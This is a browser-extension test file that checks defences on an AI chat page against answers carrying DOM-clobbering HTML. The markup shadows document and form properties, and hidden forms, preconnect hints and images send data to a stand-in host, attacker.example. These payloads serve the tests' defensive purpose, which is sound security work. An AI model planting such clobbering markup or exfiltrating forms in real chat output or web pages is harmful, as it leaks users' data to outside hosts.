import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { findFirefox } from '../../scripts/find-browser.mjs';
import { waitUntil } from '../../scripts/drive/guarded-browser';
import { chatPage, openChatLab, type ChatLab, type ChatTab } from '../harness/chat-lab';

/**
 * Answers that shadow what a script reads: `<img name=baseURI>` stands for `document.baseURI`, `<input name=closest>` for
 * a form's own `closest`, in the extension's world as well.
 */

const chat = 'https://chat.mistral.ai';
const attacker = 'https://attacker.example';
const names = findFirefox() ? (['chromium', 'firefox'] as const) : (['chromium'] as const);

/** What stands in the way of whoever asks the document. Not what the drivers of these tests use themselves. */
const shadowedDocument = [
  'baseURI',
  'body',
  'createElement',
  'documentElement',
  'title',
  'addEventListener',
  'readyState',
]
  .map((name) => `<img name="${name}">`)
  .join('');
/** The same for a form. */
const shadowedForm = [
  'action',
  'attributes',
  'closest',
  'compareDocumentPosition',
  'contains',
  'getAttribute',
  'insertBefore',
  'matches',
  'method',
  'nextSibling',
  'parentNode',
  'setAttribute',
  'textContent',
]
  .map((name) => `<input type="hidden" name="${name}">`)
  .join('');

describe.each(names)('a chat whose answer shadows names of the page in %s', (name) => {
  let lab: ChatLab;
  let tab: ChatTab;
  let visits = 0;

  beforeAll(async () => {
    lab = await openChatLab(name, ({ hostname }) => (hostname === 'chat.mistral.ai' ? chatPage() : null));
    tab = await lab.openChat(`${chat}/c/0`);
  });
  afterAll(() => lab.close());
  beforeEach(async () => {
    visits += 1;
    await tab.visit(`${chat}/c/${visits}`);
    lab.left();
  });

  const press = (id: string) =>
    tab.evaluate((what) => {
      const button = document.getElementById(what);
      if (button instanceof HTMLElement) button.click();
    }, id);
  const stopsAt = async (what: string) => {
    await tab.attemptsAre((all) => all.some(({ url }) => url.includes(what)));
    expect(await tab.address()).toBe(`${chat}/c/${visits}`);
    expect(lab.left()).toEqual([]);
  };

  it.each([
    ['the form', '', shadowedForm],
    ['the document', shadowedDocument, ''],
  ])('stops a form that posts where %s is shadowed', async (_, before, within) => {
    await tab.say(
      `${before}<form method="post" action="${attacker}/posted-${visits}">${within}
       <input name="d" value="482913"><button id="send">Send</button></form>`,
    );
    await press('send');
    await stopsAt(`/posted-${visits}`);
  });

  it('disarms hints that stand behind a shadowed form', async () => {
    await tab.say(
      `${shadowedDocument}<form>${shadowedForm}</form><link id="hint" rel="preconnect" href="${attacker}">`,
    );
    const rel = () => tab.evaluate(() => document.getElementById('hint')?.getAttribute('rel') ?? '', null);
    await waitUntil(rel, (now) => now !== 'preconnect');
    await tab.attemptsAre((all) => all.some(({ url }) => url.startsWith(attacker)));
  });

  it('puts its placeholder in the place of a held picture', async () => {
    await tab.say(
      `${shadowedDocument}<form>${shadowedForm}<img src="${attacker}/held-${visits}.png"></form>`,
    );
    const placeholders = () =>
      tab.evaluate(
        () =>
          [...document.querySelectorAll('*')].filter(({ localName }) => /^x-\d{5,}$/.test(localName)).length,
        null,
      );
    await waitUntil(placeholders, (count) => count === 1);
    await stopsAt(`/held-${visits}.png`);
  });

  it('goes on reading the conversation', async () => {
    await tab.say(
      `${shadowedDocument}<form data-message-author-role="assistant">${shadowedForm}Which name?</form>
       <form data-message-author-role="assistant">${shadowedForm}And which harbour?</form>
       <p>The lantern hangs at gate nineteen.</p>`,
    );
    await waitUntil(
      () => lab.stored('session', `conversation:${tab.id}`),
      (text) => JSON.stringify(text).includes('gate nineteen'),
    );
  });
});
